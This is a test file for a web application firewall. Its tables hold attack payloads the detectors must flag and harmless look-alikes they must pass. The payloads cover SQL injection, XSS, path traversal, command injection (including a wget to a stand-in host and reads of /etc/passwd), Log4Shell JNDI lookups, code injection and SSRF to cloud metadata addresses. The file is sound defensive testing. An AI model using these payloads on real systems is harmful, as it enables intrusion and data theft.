// Attack and benign tables per detector, at paranoia 1 unless stated.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { builtinDetectors } from '../src/waf/detector-catalog.js';
import { InputView } from '../src/waf/transform-view.js';
import type { DetectContext, Location, ParanoiaLevel, RequestFacts } from '../src/waf/detector.js';
import { sqlFingerprints } from '../src/waf/detectors/sqli.js';
import { scanTags } from '../src/waf/xss-tokenizer.js';
import { resolveLookups } from '../src/waf/detectors/template.js';
import { normalizeShell } from '../src/waf/detectors/command.js';
import { classifyHost } from '../src/waf/detectors/ssrf.js';
import { DEFAULT_LIMITS } from './waf-corpus.js';

const ctx = (paranoia: ParanoiaLevel = 1): DetectContext => ({ paranoia, limits: DEFAULT_LIMITS });
function rules(detector: string, value: string, opts: { location?: Location; name?: string; paranoia?: ParanoiaLevel } = {}): string[] {
  const [d] = builtinDetectors([detector]);
  const found = d.inspectValue?.({ location: opts.location ?? 'query', name: opts.name ?? 'q', view: new InputView(value) }, ctx(opts.paranoia)) ?? [];
  return found.filter((f) => f.paranoia <= (opts.paranoia ?? 1) && (f.severity === 'critical' || f.severity === 'error')).map((f) => f.rule);
}
function table(detector: string, attacks: string[], benign: string[], opts: { name?: string; location?: Location } = {}) {
  for (const a of attacks) assert.notDeepEqual(rules(detector, a, opts), [], `${detector} should flag ${JSON.stringify(a)}`);
  for (const b of benign) assert.deepEqual(rules(detector, b, opts), [], `${detector} should pass ${JSON.stringify(b)}`);
}

test('sqli: fingerprints in bare and quoted contexts', () => {
  assert.deepEqual(sqlFingerprints("' or 1=1--"), { bare: 's', single: 's&1o1c' });
  assert.equal(sqlFingerprints('1 union all select 1,2').bare, '1UE1,1');
  assert.equal(sqlFingerprints('1/*!50000union*/select 1').bare, '1UE1');
  assert.equal(sqlFingerprints('-1 or 1=1').bare, '1&1o1', 'unary minus folds');
  assert.equal(sqlFingerprints("O'Brien").single, 'sn');
});

test('sqli: attacks and look-alikes', () => {
  table('sqli',
    ["' or 1=1--", "1 union select 1,2", "admin'--", "1; drop table users", "1 and sleep(5)", "x'='x", "') or ('1'='1", "' || pg_sleep(5)--", "1' order by 3--", "(select 1)=1", "1 AND 1=CONVERT(int,@@version)"],
    ["O'Brien", "D'Angelo", "James' and John's books", 'select the best option', 'workers union select new leader', '"foo" or "bar"', 'Tom & Jerry', '2 or 3 bedrooms', "it's 5' - 3' tall", 'drop-down menu']);
  assert.deepEqual(rules('sqli', 'drop table students'), []);
  assert.deepEqual(rules('sqli', 'drop table students', { paranoia: 2 }), ['sqli-statement'], 'PL2 flags whole statements');
});

test('xss: tag tokenizer', () => {
  const { tags } = scanTags('<svg/onload=alert(1)><a href="x" title=\'t\'>', 10);
  assert.deepEqual(tags.map((t) => t.name), ['svg', 'a']);
  assert.deepEqual(tags[0].attrs, [{ name: 'onload', value: 'alert(1)' }]);
  assert.deepEqual(tags[1].attrs, [{ name: 'href', value: 'x' }, { name: 'title', value: 't' }]);
});

test('xss: attacks and look-alikes', () => {
  table('xss',
    ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="jav&#x09;ascript:alert(1)">', '" onmouseover="alert(1)', "';alert(1);//", 'javascript:alert(1)', '{{constructor.constructor("alert(1)")()}}', '%3Cscript%3E', '＜script＞'],
    ['<b>bold</b>', '<a href="https://example.com">x</a>', 'a < b > c', 'I <3 you', 'javascript: the good parts', '&lt;script&gt;', 'console.log("hi"); run(x)']);
  assert.notDeepEqual(rules('xss', '&lt;script&gt;alert(1)&lt;/script&gt;', { paranoia: 2 }), [], 'PL2 looks through HTML escaping');
  assert.notDeepEqual(rules('xss', '\\x3cscript\\x3ealert(1)', { paranoia: 2 }), [], 'PL2 looks through JS escapes');
});

test('traversal: encodings and sensitive files', () => {
  table('traversal',
    ['../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '..%252f..%252fetc', '..%c0%af..%c0%afetc', '..\\..\\windows\\win.ini', '/etc/shadow', 'php://filter/resource=x', 'image.php%00.jpg', '%u002e%u002e%u2215%u002e%u002e%u2215etc'],
    ['report.pdf', 'docs/readme.md', '../sibling', 'version 1.2.3', 'https://example.com/a/b', 'etc/passwords are bad']);
});

test('command: unix, windows, evasions', () => {
  assert.equal(normalizeShell("c'a't${ifs}/etc/passwd"), 'cat /etc/passwd');
  table('command',
    ['; cat /etc/passwd', '| id', '$(whoami)', '`id`', '&& wget http://e.example/x', "; c'a't /etc/passwd", ';cat${IFS}/etc/passwd', '& dir C:\\', 'cmd /c whoami', 'powershell -enc AAA', '%0aid', '& net user x y /add'],
    ['Tom & Jerry', 'I love dogs; cat people disagree', 'rock & roll', 'a=1&b=2', '```bash\nnpm test\n```', 'cats; more', 'echo chamber']);
});

test('template, EL and Log4Shell', () => {
  assert.equal(resolveLookups('${${lower:j}ndi:${::-l}dap://x}'), '${jndi:ldap://x}');
  table('template',
    ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__}}", '${jndi:ldap://x/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}di:rmi://x}', '${env:SECRET}', "${T(java.lang.Runtime).getRuntime().exec('id')}", '%{(#_memberAccess=1)}', '{{config.items()}}'],
    ['Hi {{name}}, welcome', 'The ${price} placeholder', 'const s = `${a} ${b}`', '#hashtag', 'email@example.com', '{{ user.first_name }}']);
});

test('code: PHP, Java, Node, prototype pollution', () => {
  table('code', ['<?php system("id"); ?>', 'O:8:"stdClass":1:{s:1:"a";i:1;}', "require('child_process')", 'rO0ABXNyAB', '$_GET["x"]'], ['php is fun', 'process the order', 'prototype design']);
  assert.deepEqual(rules('code', '__proto__[admin]', { location: 'query-name', name: '__proto__[admin]' }), ['prototype-pollution']);
  assert.deepEqual(rules('code', 'constructor.prototype.x', { location: 'body-name', name: 'constructor.prototype.x' }), ['prototype-pollution']);
});

test('ssrf: only in URL-carrying parameters, all IPv4 spellings', () => {
  for (const h of ['127.0.0.1', 'localhost', '[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]']) assert.equal(classifyHost(h), 'loopback', h);
  assert.equal(classifyHost('169.254.169.254'), 'metadata');
  assert.equal(classifyHost('example.com'), undefined);
  table('ssrf', ['http://127.0.0.1/', 'http://2130706433/', 'http://0x7f.1/', 'http://0177.0.0.1/', 'http://169.254.169.254/latest', 'gopher://x:1/_', 'http://a@127.0.0.1/', '127.0.0.1:6379', 'http://[::1]/'],
    ['https://example.com/x?y=1', 'https://8.8.8.8/dns-query', '/relative/path'], { name: 'callback_url' });
  assert.deepEqual(rules('ssrf', '127.0.0.1', { name: 'comment' }), [], 'not a URL parameter, no scheme');
  assert.deepEqual(rules('ssrf', 'http://10.0.0.1/', { name: 'url' }), []);
  assert.deepEqual(rules('ssrf', 'http://10.0.0.1/', { name: 'url', paranoia: 2 }), ['ssrf-private']);
});

const facts = (over: Partial<RequestFacts>): RequestFacts => ({
  method: 'GET', url: '/', httpVersion: '1.1', headers: { host: 'a', 'user-agent': 'Mozilla/5.0', accept: '*/*' }, argCount: 0, argNames: [], argTotalLength: 0, maxArgLength: 0, ...over,
});
const proto = (f: RequestFacts, paranoia: ParanoiaLevel = 1) => {
  const d = builtinDetectors(['protocol'])[0];
  return [...(d.inspectHeaders?.(f, ctx(paranoia)) ?? []), ...(d.inspectRequest?.(f, ctx(paranoia)) ?? [])].map((x) => `${x.rule}:${x.severity}`);
};

test('protocol anomalies', () => {
  assert.deepEqual(proto(facts({})), []);
  assert.ok(proto(facts({ method: 'POST', headers: { host: 'a', 'content-length': '1', 'transfer-encoding': 'chunked' } })).includes('protocol-smuggling:critical'));
  assert.ok(proto(facts({ headers: { host: 'a', 'transfer-encoding': 'chunked, identity' } })).includes('protocol-smuggling:critical'));
  assert.ok(proto(facts({ headers: { host: 'a' }, rawHeaders: ['Host', 'a', 'host', 'b'] })).includes('protocol-host:critical'));
  assert.deepEqual(proto(facts({ headers: { 'user-agent': 'x', accept: '*/*' } })), ['protocol-host:warning'], 'missing Host alone does not block');
  assert.deepEqual(proto(facts({ headers: {}, httpVersion: '1.0' })), []);
  assert.ok(proto(facts({ method: 'TRACE' })).includes('protocol-method:critical'));
  assert.ok(proto(facts({ method: 'POST', headers: { host: 'a', 'content-type': 'application/x-evil' } })).includes('protocol-content-type:critical'));
  assert.deepEqual(proto(facts({ method: 'POST', headers: { host: 'a', 'content-type': 'application/vnd.api+json; charset=utf-8' } })), []);
  assert.ok(proto(facts({ argCount: 10_000 })).includes('protocol-limits:critical'));
  assert.ok(proto(facts({ argNames: ['x'.repeat(1000)] })).includes('protocol-limits:critical'));
  assert.ok(proto(facts({ headers: { host: 'a', 'x-big': 'x'.repeat(10_000) } })).includes('protocol-limits:critical'));
  assert.deepEqual(proto(facts({ headers: { host: 'a' } }), 2).sort(), ['protocol-accept:notice', 'protocol-user-agent:notice']);
  assert.deepEqual(rules('protocol', 'a%00b'), ['protocol-null-byte']);
  assert.deepEqual(rules('protocol', 'a\u0001b', { location: 'header', name: 'x' }), ['protocol-invalid-char']);
});

test('scanner user agents', () => {
  const scan = (ua: string, paranoia: ParanoiaLevel = 1) => (builtinDetectors(['scanner'])[0].inspectHeaders?.(facts({ headers: { host: 'a', 'user-agent': ua } }), ctx(paranoia)) ?? []).map((f) => f.rule);
  assert.deepEqual(scan('sqlmap/1.7 (https://sqlmap.org)'), ['scanner-user-agent']);
  assert.deepEqual(scan('Mozilla/5.00 (Nikto/2.1.6)'), ['scanner-user-agent']);
  assert.deepEqual(scan('Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0'), []);
  assert.deepEqual(scan('curl/8.4.0'), []);
  assert.deepEqual(scan('curl/8.4.0', 3), ['scanner-library']);
});

test('unknown detector names are refused', () => {
  assert.throws(() => builtinDetectors(['nope']), /unknown WAF detector "nope"/);
});
